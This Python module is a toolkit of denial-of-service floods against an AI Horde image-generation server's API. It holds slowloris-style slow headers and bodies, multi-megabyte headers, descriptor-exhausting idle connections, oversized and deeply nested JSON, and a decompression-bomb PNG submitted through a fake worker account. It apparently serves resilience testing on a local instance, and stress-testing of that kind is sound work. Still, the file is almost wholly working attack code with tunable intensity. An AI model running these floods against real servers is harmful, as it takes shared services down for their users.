"""The floods by which one stranger stopped a default horde, each as one function: sizes as he would choose them.

Each takes the server, a share (1.0 is the whole attack; less for the short form) and gives back what it was answered.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import io
import itertools
import time
from collections.abc import Callable, Coroutine, Iterable, Iterator
from typing import Any

import aiohttp
from PIL import Image

from attack.wire import Answer, Target, attempt, read_answer

Flood = Callable[[Target, float], Coroutine[Any, Any, list[Answer]]]
FLOODS: dict[str, Flood] = {}
_ASYNC = "/api/v2/generate/async"
_MEGABYTE = b"a" * 1_000_000
ACCOUNT_HOLDER = "127.0.0.78"
_BRIDGE = "AI Horde Worker reGen:13.0.0:https://example.org"


def flood(made: Flood) -> Flood:
    """Enter a flood in the list, by its function's name."""
    FLOODS[made.__name__] = made
    return made


# heads


@flood
async def endless_header(target: Target, share: float) -> list[Answer]:
    """One keyless connection with one header of 80 MB."""
    start = target.head("GET", "/api/v2/status/heartbeat") + b"X-bomb: "
    return [await attempt(target, [start, *[_MEGABYTE] * int(80 * share)])]


@flood
async def endless_address(target: Target, share: float) -> list[Answer]:
    """One keyless connection with an address of 80 MB."""
    return [await attempt(target, [b"GET /", *[_MEGABYTE] * int(80 * share)])]


@flood
async def endless_headers(target: Target, share: float) -> list[Answer]:
    """One keyless connection with 3.6 million headers."""
    many = b"".join(b"X-%06d: y\r\n" % number for number in range(36_000))
    return [await attempt(target, [target.head("GET", "/api/v2/status/heartbeat"), *[many] * max(1, int(100 * share))])]


@flood
async def endless_trailers(target: Target, share: float) -> list[Answer]:
    """A chunked body that ends in trailers without an end."""
    start = target.head("POST", _ASYNC, Transfer_Encoding="chunked", Content_Type="application/json", apikey=target.key)
    many = b"".join(b"X-%06d: y\r\n" % number for number in range(36_000))
    return [await attempt(target, [start, b"\r\n2\r\n{}\r\n0\r\n", *[many] * max(1, int(100 * share))])]


@flood
async def slow_heads(target: Target, share: float) -> list[Answer]:
    """500 connections that send a header byte by byte."""
    start = target.head("GET", "/api/v2/status/heartbeat") + b"X-slow: "
    dripping = [attempt(target, [start, *[b"a"] * 200], pause_s=0.3) for _ in range(int(500 * share))]
    return list(await asyncio.gather(*dripping))


@flood
async def pipelined(target: Target, share: float) -> list[Answer]:
    """100,000 requests on one connection, whose answers are never read."""
    one = target.head("GET", "/api/v2/status/performance") + b"\r\n"
    async with target.connection() as (reader, writer):
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(10 * share + 2):
                for _ in range(int(100 * share)):
                    writer.write(one * 1000)
                    await writer.drain()
        with contextlib.suppress(RuntimeError):
            reader._transport.resume_reading()  # type: ignore[attr-defined]
        return [await asyncio.wait_for(read_answer(reader), 30)]


# connections


@flood
async def idle_connections(target: Target, share: float) -> list[Answer]:
    """1,400 connections that say nothing, held for 20 s; more descriptors than the server may have."""
    until = time.monotonic() + 20 * share

    async def hold() -> Answer:
        try:
            async with target.connection() as (reader, _):
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + until - time.monotonic()):
                    return await read_answer(reader)
        except TimeoutError:
            return Answer(-2, "held until the end")
        except OSError:
            return Answer(0)

    return list(await asyncio.gather(*[hold() for _ in range(int(1400 * max(share, 0.9)))]))


# bodies


def _held_body(target: Target, length: int, part: int, **headers: str) -> Iterator[bytes]:
    yield target.post(_ASYNC, length, **headers)
    yield from itertools.repeat(_MEGABYTE, part // 1_000_000)


@flood
async def keyless_bodies(target: Target, share: float) -> list[Answer]:
    """30 connections that send 30 of 31 MB with a key that nobody has, and stop."""
    held = [
        attempt(target, _held_body(target, 31_000_000, int(30_000_000 * max(share, 0.5)), apikey="nokey"))
        for _ in range(30)
    ]
    return list(await asyncio.gather(*held))


@flood
async def anonymous_bodies(target: Target, share: float) -> list[Answer]:
    """30 connections that send 30 of 31 MB with the anonymous key, and stop."""
    held = [attempt(target, _held_body(target, 31_000_000, int(30_000_000 * max(share, 0.5)))) for _ in range(30)]
    return list(await asyncio.gather(*held))


@flood
async def slow_bodies(target: Target, share: float) -> list[Answer]:
    """500 connections that send a body byte by byte."""
    dripping = [
        attempt(target, [target.post(_ASYNC, 60_000), *[b"a"] * 300], pause_s=0.3) for _ in range(int(500 * share))
    ]
    return list(await asyncio.gather(*dripping))


@flood
async def chunked_bodies(target: Target, share: float) -> list[Answer]:
    """10 bodies without an end, in chunks."""
    start = target.head("POST", _ASYNC, Transfer_Encoding="chunked", Content_Type="application/json", apikey=target.key)
    chunk = b"%x\r\n%b\r\n" % (len(_MEGABYTE), _MEGABYTE)
    return list(
        await asyncio.gather(*[attempt(target, [start + b"\r\n", *[chunk] * int(60 * share)]) for _ in range(10)])
    )


# lists and errors


def _listing(before: bytes, item: bytes, count: int, after: bytes) -> bytes:
    return before + b",".join([item] * count) + after


async def _posts(target: Target, path: str, bodies: Iterable[bytes]) -> list[Answer]:
    """One after the other, a second apart: within the rate limits."""
    answers = []
    for body in bodies:
        answers.append(await attempt(target, [target.post(path, len(body)), body]))
        await asyncio.sleep(0.6)
    return answers


def _times(share: float) -> int:
    return max(1, int(6 * share))


@flood
async def wrong_models(target: Target, share: float) -> list[Answer]:
    """540,000 models that are numbers."""
    body = _listing(b'{"prompt":"x","models":[', b"1", 540_000, b"]}")
    return await _posts(target, _ASYNC, [body] * _times(share))


@flood
async def endless_models(target: Target, share: float) -> list[Answer]:
    """540,000 models, rightly written, and looks at the list of models between."""
    names = b",".join(b'"m%d"' % number for number in range(540_000))
    answers = []
    for _ in range(_times(share)):
        answers += await _posts(target, _ASYNC, [b'{"prompt":"x","models":[' + names + b"]}"])
        look = await attempt(target, [target.head("GET", "/api/v2/status/models") + b"\r\n"])
        answers += [] if look.status == 200 else [look]
    return answers


@flood
async def wrong_loras(target: Target, share: float) -> list[Answer]:
    """540,000 LoRAs without a name."""
    body = _listing(b'{"prompt":"x","params":{"loras":[', b"{}", 540_000, b"]}}")
    return await _posts(target, _ASYNC, [body] * _times(share))


@flood
async def wrong_metadata(target: Target, share: float) -> list[Answer]:
    """A submit with 540,000 remarks that say nothing."""
    body = _listing(
        b'{"id":"00000000-0000-4000-8000-000000000000","generation":"R2","seed":1,"gen_metadata":[',
        b"{}",
        540_000,
        b"]}",
    )
    return await _posts(target, "/api/v2/generate/submit", [body] * _times(share))


@flood
async def wrong_ratings(target: Target, share: float) -> list[Answer]:
    """540,000 ratings without a rating."""
    body = _listing(b'{"ratings":[', b"{}", 540_000, b"]}")
    path = "/api/v2/generate/rate/00000000-0000-4000-8000-000000000000"
    return await _posts(target, path, [body] * _times(share))


@flood
async def many_faults(target: Target, share: float) -> list[Answer]:
    """A body of 20,000 fields that nobody knows, and every known one wrong."""
    unknown = ",".join(f'"field{number}":[{{"a":1}}]' for number in range(20_000))
    wrong = ",".join(f'"{name}":{{"a":[1,2]}}' for name in ("prompt", "params", "models", "nsfw", "workers", "r2"))
    body = ("{" + unknown + "," + wrong + "}").encode()
    return await _posts(target, _ASYNC, [body] * _times(share))


@flood
async def deep_bodies(target: Target, share: float) -> list[Answer]:
    """Brackets within brackets, a million deep."""
    body = b'{"prompt":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"
    return await _posts(target, _ASYNC, [body] * _times(share))


# results and uploads; the attacker has an account and a worker


def huge_picture(side_px: int = 6144) -> bytes:
    """A black PNG: 110 KB on the wire, 113 MB once decoded."""
    made = io.BytesIO()
    Image.new("RGB", (side_px, side_px)).save(made, "PNG")
    return made.getvalue()


async def _jobs(session: aiohttp.ClientSession, url: str, count: int) -> list[dict[str, Any]]:
    """Jobs of his own request, popped by his own worker."""
    body = {"prompt": "x", "params": {"n": count, "width": 64, "height": 64, "steps": 1}, "r2": True}
    for _ in range(10):
        async with session.post(f"{url}/generate/async", json=body) as answer:
            if answer.status != 429:
                assert answer.status == 202, await answer.text()
                break
        await asyncio.sleep(1)
    jobs = []
    for number in range(count * 4):
        pop = {"name": f"attacker-{number % 2}", "models": ["stable_diffusion"], "bridge_agent": _BRIDGE, "threads": 20}
        async with session.post(f"{url}/generate/pop", json=pop) as answer:
            popped = await answer.json()
        if popped.get("id"):
            jobs.append(popped)
        if len(jobs) == count:
            break
    assert jobs, popped
    return jobs


async def _said(answer: aiohttp.ClientResponse) -> Answer:
    body = await answer.read()
    try:
        message = str((await answer.json(content_type=None)).get("message", ""))
    except (ValueError, AttributeError):
        message = body[:200].decode("latin-1")
    return Answer(answer.status, message, len(body))


def _session(target: Target) -> aiohttp.ClientSession:
    """From an address of its own: what the keyless floods are limited to would stop this one before it began."""
    headers = {"apikey": target.key, "Client-Agent": "attacker:1:example.org"}
    connector = aiohttp.TCPConnector(local_addr=(ACCOUNT_HOLDER, 0), force_close=True)
    return aiohttp.ClientSession(headers=headers, timeout=aiohttp.ClientTimeout(60), connector=connector)


@flood
async def huge_results(target: Target, share: float) -> list[Answer]:
    """Six submits at a time of a 6144 x 6144 picture, inline, for jobs of 64 x 64."""
    url = f"http://{target.host}:{target.port}/api/v2"
    picture = base64.b64encode(huge_picture()).decode()
    answers: list[Answer] = []
    async with _session(target) as session:

        async def submit(job: dict[str, Any]) -> Answer:
            body = {"id": job["id"], "generation": picture, "state": "ok", "seed": 1}
            try:
                async with session.post(f"{url}/generate/submit", json=body) as answer:
                    return await _said(answer)
            except TimeoutError:
                return Answer(-1)

        jobs = await _jobs(session, url, 6)
        for _ in range(max(1, int(5 * share))):
            answers += await asyncio.gather(*map(submit, jobs))
    return answers


@flood
async def huge_uploads(target: Target, share: float) -> list[Answer]:
    """Twelve uploads at a time of a huge picture and of 30 MB of nothing, to addresses of his own jobs."""
    url = f"http://{target.host}:{target.port}/api/v2"
    picture = huge_picture()
    nothing = b"\0" * 30_000_000
    answers: list[Answer] = []
    async with _session(target) as session:

        async def put(address: str, body: bytes) -> Answer:
            try:
                async with session.put(address, data=body, skip_auto_headers=["apikey"]) as answer:
                    return await _said(answer)
            except TimeoutError:
                return Answer(-1)
            except (aiohttp.ClientError, OSError):
                return Answer(0)

        jobs = await _jobs(session, url, 6)
        places = [job["r2_upload"] for job in jobs]
        for _ in range(max(1, int(5 * share))):
            answers += await asyncio.gather(*[put(place, body) for place in places for body in (picture, nothing)])
        for job in jobs:
            body = {"id": job["id"], "generation": "R2", "state": "ok", "seed": 1}
            async with session.post(f"{url}/generate/submit", json=body) as answer:
                answers.append(await _said(answer))
    return answers
